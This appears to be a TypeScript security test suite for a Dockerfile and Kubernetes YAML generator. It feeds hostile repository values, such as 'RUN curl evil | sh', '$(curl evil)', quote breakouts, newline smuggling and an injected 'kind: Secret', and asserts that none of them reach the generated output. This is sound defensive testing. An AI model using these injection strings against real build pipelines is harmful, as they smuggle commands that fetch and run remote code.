// Class 4: names and values from the repository cannot add instructions to a generated Dockerfile or keys
// to generated YAML. Each hostile value is generated next to a benign twin: the Dockerfile's instruction
// sequence and every YAML document's key structure must be the same, and the payload never starts a line.
import * as assert from 'node:assert/strict';
import { parseAllDocuments } from 'yaml';
import { hostile, nodeApp, type Node, type Result } from './harness';

interface JsonOut { files: { path: string; content: string }[]; warnings: { file: string; message: string }[] }

const PAYLOAD = 'PWNED';

function instructions(dockerfile: string): string[] {
  return dockerfile.replace(/\\\r?\n/g, ' ').split('\n').map((l) => l.trim()).filter((l) => l && !l.startsWith('#')).map((l) => l.split(/\s+/)[0].toUpperCase());
}

function assertContained(r: Result): void {
  const out = JSON.parse(r.out) as JsonOut;
  for (const f of out.files) {
    for (const line of f.content.split('\n')) {
      assert.ok(!new RegExp(`^\\s*(RUN|ENV|COPY|USER|FROM|CMD|ENTRYPOINT|-|[A-Za-z_]+:)?\\s*${PAYLOAD}`).test(line) || line.trim().startsWith('#'), `${f.path}: payload starts a line: ${line}`);
      assert.ok(!/^\s*(RUN|USER|FROM|ENTRYPOINT|ADD|VOLUME)\b.*\bcurl evil/.test(line), `${f.path}: injected instruction: ${line}`);
    }
    if (/\.ya?ml$/.test(f.path)) {
      for (const doc of parseAllDocuments(f.content)) {
        assert.equal(doc.errors.length, 0, `${f.path} is not valid YAML: ${doc.errors[0]?.message}`);
        const js = doc.toJS() as Record<string, unknown> | null;
        if (js && typeof js === 'object' && 'kind' in js) assert.notEqual(js.kind, 'Secret', `${f.path}: a Secret document was injected`);
        const name = (js as { metadata?: { name?: string } } | null)?.metadata?.name;
        if (name !== undefined) assert.match(name, /^[a-z0-9]([-a-z0-9]*[a-z0-9])?$/, `${f.path}: metadata.name '${name}' is not DNS-1123`);
      }
    }
    if (f.path.endsWith('Dockerfile')) {
      const cmd = f.content.split('\n').find((l) => l.startsWith('CMD '));
      if (cmd && cmd.slice(4).trim().startsWith('[')) assert.doesNotThrow(() => JSON.parse(cmd.slice(4)), `CMD is not valid exec form: ${cmd}`);
      for (const ins of instructions(f.content)) assert.match(ins, /^(FROM|RUN|COPY|ENV|ARG|WORKDIR|USER|EXPOSE|CMD|ENTRYPOINT|HEALTHCHECK|LABEL|STOPSIGNAL|SHELL|VOLUME|ONBUILD|ADD)$/, `${f.path}: unknown instruction ${ins}`);
    }
  }
}

/** Generate the hostile app and a benign twin; the Dockerfile instruction sequences must match. */
function injection(name: string, hostileFiles: Record<string, Node>, benignFiles: Record<string, Node>, opts: { warns?: RegExp; args?: string[] } = {}): void {
  let benign: string[] | undefined;
  hostile({
    name: `class 4: ${name}: benign twin generates`,
    files: benignFiles,
    args: ['generate', '.', '--json', ...(opts.args ?? [])],
    exit: [0, 1],
    check: (_w, r) => {
      const out = JSON.parse(r.out) as JsonOut;
      benign = out.files.filter((f) => f.path.endsWith('Dockerfile')).flatMap((f) => instructions(f.content));
    },
  });
  hostile({
    name: `class 4: ${name}: nothing injected into generated files`,
    files: hostileFiles,
    args: ['generate', '.', '--json', ...(opts.args ?? [])],
    exit: [0, 1],
    says: opts.warns,
    check: (_w, r) => {
      assertContained(r);
      const out = JSON.parse(r.out) as JsonOut;
      const got = out.files.filter((f) => f.path.endsWith('Dockerfile')).flatMap((f) => instructions(f.content));
      if (benign) assert.deepEqual(got.filter((i) => i === 'RUN' || i === 'USER' || i === 'FROM'), benign.filter((i) => i === 'RUN' || i === 'USER' || i === 'FROM'), 'the hostile value changed the Dockerfile\'s RUN/USER/FROM steps');
    },
  });
}

const STARTS = [
  `node server.js\nRUN curl evil | sh`,
  `node server.js\r\nRUN curl evil | sh`,
  `node server.js \\\nRUN curl evil`,
  `node server.js"]\nRUN curl evil\nCMD ["x`,
  'node server.js $(curl evil) `curl evil`',
  "node server.js'; curl evil; echo '",
  `node server.js\n${PAYLOAD}: injected`,
  `node server.js # \u001b[2J`,
];
STARTS.forEach((start, i) => injection(`scripts.start #${i + 1} ${JSON.stringify(start).slice(0, 40)}`, nodeApp({ scripts: { start } }), nodeApp({ scripts: { start: 'node server.js' } })));

const NAMES = [
  `web\nkind: Secret`,
  `web: {${PAYLOAD}: 1}`,
  `"web"\n---\nkind: Secret`,
  '$(curl evil)',
  '@scope/WEB_App!!',
  '*alias',
  '&anchor web',
  '-web-',
  'a'.repeat(300),
];
NAMES.forEach((name, i) => injection(`package name #${i + 1} ${JSON.stringify(name).slice(0, 30)}`, nodeApp({ name }), nodeApp({ name: 'web' })));

const VERSIONS = [`20\nRUN curl evil`, '20 AS x\nRUN curl evil', '$(curl evil)', '>=20 <21 || 22\n'];
VERSIONS.forEach((v, i) => injection(`engines.node #${i + 1} ${JSON.stringify(v)}`, nodeApp({ engines: { node: v } }), nodeApp({ engines: { node: '20' } })));

injection('.nvmrc with a newline payload', { ...nodeApp({ engines: undefined }), '.nvmrc': '20\nRUN curl evil\n' }, { ...nodeApp({ engines: undefined }), '.nvmrc': '20\n' });
injection('.python-version with a newline payload', { 'requirements.txt': 'flask\n', 'app.py': "from flask import Flask\napp = Flask(__name__)\n", '.python-version': '3.12\nRUN curl evil\n' }, { 'requirements.txt': 'flask\n', 'app.py': "from flask import Flask\napp = Flask(__name__)\n", '.python-version': '3.12\n' });
injection('a monorepo folder named $(…)', { 'package.json': JSON.stringify({ name: 'root', private: true, workspaces: ['apps/*'] }), 'apps/$(touch PWN)/package.json': JSON.stringify({ name: 'w', scripts: { start: 'node s.js' } }), 'apps/$(touch PWN)/s.js': 'require("http").createServer().listen(3000)\n' }, { 'package.json': JSON.stringify({ name: 'root', private: true, workspaces: ['apps/*'] }), 'apps/w/package.json': JSON.stringify({ name: 'w', scripts: { start: 'node s.js' } }), 'apps/w/s.js': 'require("http").createServer().listen(3000)\n' });
injection('a folder name with a newline', { 'package.json': JSON.stringify({ name: 'root', private: true, workspaces: ['apps/*'] }), 'apps/w\nRUN curl evil/package.json': JSON.stringify({ name: 'w', scripts: { start: 'node s.js' } }), 'apps/w\nRUN curl evil/s.js': 'require("http").createServer().listen(3000)\n' }, { 'package.json': JSON.stringify({ name: 'root', private: true, workspaces: ['apps/*'] }), 'apps/w/package.json': JSON.stringify({ name: 'w', scripts: { start: 'node s.js' } }), 'apps/w/s.js': 'require("http").createServer().listen(3000)\n' });

const ENV_NAMES = ['A\nRUN curl evil', 'A B', '1ABC', 'A-B', 'A=B', '${X}', 'A;curl evil'];
ENV_NAMES.forEach((env, i) => injection(`env var name #${i + 1} ${JSON.stringify(env)}`, nodeApp({}, { 'server.js': `const v = process.env[${JSON.stringify(env)}];\nconst x = process.env.GOOD_NAME;\nrequire('http').createServer().listen(process.env.PORT || 3000);\n` }), nodeApp({}, { 'server.js': "const x = process.env.GOOD_NAME;\nrequire('http').createServer().listen(process.env.PORT || 3000);\n" })));

for (const port of ['99999', '-1', '0', '65536', '3000\nRUN curl evil', '1e9']) {
  hostile({
    name: `class 4: port ${JSON.stringify(port)} from the repository is a warning, never output`,
    files: nodeApp({}, { 'server.js': `require('http').createServer().listen(${/^-?\d+(e\d+)?$/.test(port) ? port : JSON.stringify(port)});\n`, Dockerfile: `FROM node:20\nEXPOSE ${port.split('\n')[0]}\n` }),
    args: ['generate', '.', '--json'],
    exit: [0, 1],
    check: (_w, r) => {
      assertContained(r);
      const out = JSON.parse(r.out) as JsonOut;
      for (const f of out.files) {
        assert.ok(!/containerPort: (99999|-1|0|65536|1e9|1000000000)\b/.test(f.content), `${f.path}: bad port in output`);
        assert.ok(!/EXPOSE (99999|-1|0|65536|1e9)\b/.test(f.content), `${f.path}: bad EXPOSE in output`);
      }
    },
  });
}
